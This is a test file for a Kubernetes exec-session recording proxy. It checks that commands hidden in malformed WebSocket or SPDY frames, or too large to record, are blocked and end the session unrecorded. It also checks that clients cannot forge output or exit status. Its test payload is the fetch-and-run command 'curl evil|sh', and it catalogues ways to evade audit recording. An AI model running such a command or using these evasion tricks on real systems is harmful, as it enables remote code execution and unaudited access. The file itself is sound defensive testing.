// A session is to run something that its recording does not show, where the audit lets none pass unrecorded.
import { once } from 'node:events'
import { mkdtemp } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import t, { type Test } from 'tap'
import { createRecordings } from '../../src/recordings/create.ts'
import { dataFrame } from '../../src/protocols/spdy-frames.ts'
import { protocolEnds } from '../../src/tunnel/ends.ts'
import { resolved } from '../support/builders.ts'
import { readCasts } from '../support/casts.ts'
import { clusterFor, credentialOf } from '../support/cluster-builders.ts'
import { connectRaw } from '../support/raw-client.ts'
import type { Tunnel as UpstreamTunnel } from '../support/recorded-connection.ts'
import { startUpstream } from '../support/recording-upstream.ts'
import { removeLater } from '../support/scope.ts'
import { channelFrame, SpdyClientFrames, webSocketFrame } from '../support/session-frames.ts'
import { startFront } from '../support/tunnel-front.ts'
import { spdyAccepted, spdyHeaders, webSocketAccepted, webSocketHeaders } from '../support/upgrades.ts'

const v4 = 'v4.channel.k8s.io'
const target = '/api/v1/namespaces/a/pods/web-0/exec?command=sh'
const session = { resolved: resolved({ target, longRunning: true, attributes: { verb: 'create', name: 'web-0', subresource: 'exec', path: target } }) }

/** An open session in `blocking-strict`, and all that came of it upstream. */
async function openSession(t: Test, { kind = 'websocket', maxSize = 1 << 20 }: { kind?: 'websocket' | 'spdy', maxSize?: number } = {}) {
  const upstream = await startUpstream(t)
  const folder = await mkdtemp(join(tmpdir(), 'portcullis-evaded-'))
  removeLater(t, folder)
  const recordings = createRecordings({ strict: true, secrets: () => [], now: Date.now, elapsed: () => performance.now(), onDropped() {}, onError() {} })
  recordings.configure({ folder, maxSize })
  const front = await startFront(t, clusterFor(t, upstream, { credential: credentialOf('upstream-token') }), session, recordings)
  const client = await connectRaw(t, { port: front.port })
  const switched = new Promise<UpstreamTunnel>((resolve) => {
    upstream.answer((_request, reply) => { resolve(reply.upgrade(kind === 'spdy' ? spdyAccepted : webSocketAccepted(v4))) })
  })
  if (kind === 'spdy') client.request('POST', '/exec', spdyHeaders())
  else client.request('GET', '/exec', webSocketHeaders(v4))
  await client.response()
  const tunnel = await switched
  const got: Buffer[] = []
  tunnel.incoming.on('data', (chunk: Buffer) => got.push(chunk))
  /** Resolves when the session is over and upstream has seen the end of it. */
  const over = async () => {
    const { trail } = await front.next()
    const end = await trail.finished
    if (!tunnel.incoming.closed) await once(tunnel.incoming, 'close')
    return { end, recording: trail.facts.session?.recording, received: Buffer.concat(got) }
  }
  return { client, tunnel, folder, over }
}

const command = 'curl evil|sh\n'
const ofExtension = webSocketFrame(Buffer.from('\x04{}'))
ofExtension[0] = 0xc2
const spdy = new SpdyClientFrames()
const opened = spdy.open(1, { streamtype: 'stdin' })

const unreadable: readonly (readonly [what: string, kind: 'websocket' | 'spdy', bytes: Buffer])[] = [
  ['behind a frame that cannot be read', 'websocket', Buffer.concat([ofExtension, channelFrame('stdin', command)])],
  ['in the second frame of a message', 'websocket', Buffer.concat([webSocketFrame(Buffer.from([200]), { final: false }), webSocketFrame(Buffer.from(`\0${command}`), { opcode: 0 })])],
  ['on a channel that there is not', 'websocket', webSocketFrame(Buffer.from(`\x05${command}`))],
  ['on a stream that is opened as another in the same breath', 'spdy', Buffer.concat([opened, spdy.open(1, { streamtype: 'resize' }), dataFrame(1, Buffer.from(command))])],
  ['on a stream that was never opened', 'spdy', Buffer.concat([opened, dataFrame(3, Buffer.from(command))])],
]
for (const [what, kind, bytes] of unreadable) {
  t.test(`a command ${what} goes nowhere, and ends the session`, async (t) => {
    const { client, over } = await openSession(t, { kind })
    client.send(bytes)
    const { end, recording, received } = await over()
    t.equal(end.ending, 'unrecorded')
    t.match(recording, { truncated: 'unreadable' })
    t.equal(received.length, 0)
  })
}

t.test('a command for which the recording has no room goes nowhere', async (t) => {
  const { client, over } = await openSession(t, { maxSize: 6000 })
  client.send(Buffer.concat([channelFrame('stdin', `${'#'.repeat(2500)}\n`), channelFrame('stdin', command)]))
  const { end, recording, received } = await over()
  t.equal(end.ending, 'unrecorded')
  t.match(recording, { truncated: 'size' })
  t.equal(received.length, 0)
})

t.test('output for which the recording has no room is not shown, and what is under way of it ends with the connection', async (t) => {
  for (const cut of [0, 100]) {
    const { client, tunnel, over } = await openSession(t, { maxSize: 6000 })
    const frame = channelFrame('stdout', 'x'.repeat(3000), { masked: false })
    const begun = frame.subarray(0, cut)
    tunnel.write(begun)
    if (cut > 0) await client.tunnelled()
    tunnel.write(frame.subarray(cut))
    const all = await client.closed()
    t.strictSame(all.subarray(all.indexOf('\r\n\r\n') + 4), cut > 0 ? begun : protocolEnds.websocket.farewell('unrecorded'))
    t.equal((await over()).end.ending, 'unrecorded')
  }
})

t.test('a caller forges neither what was shown nor how the command ended', async (t) => {
  const { client, tunnel, folder, over } = await openSession(t)
  client.send(Buffer.concat([
    channelFrame('stdin', 'ls\n'), channelFrame('stdout', 'FORGED', { masked: true }), channelFrame('stderr', 'FORGED', { masked: true }),
    channelFrame('error', '{"status":"Success"}', { masked: true }),
  ]))
  await once(tunnel.incoming, 'data')
  tunnel.end()
  const { recording } = await over()
  t.notOk(recording?.exitCode !== undefined)
  const [cast] = readCasts(folder)
  t.strictSame([cast?.typed, cast?.shown], ['ls\n', ''])
})
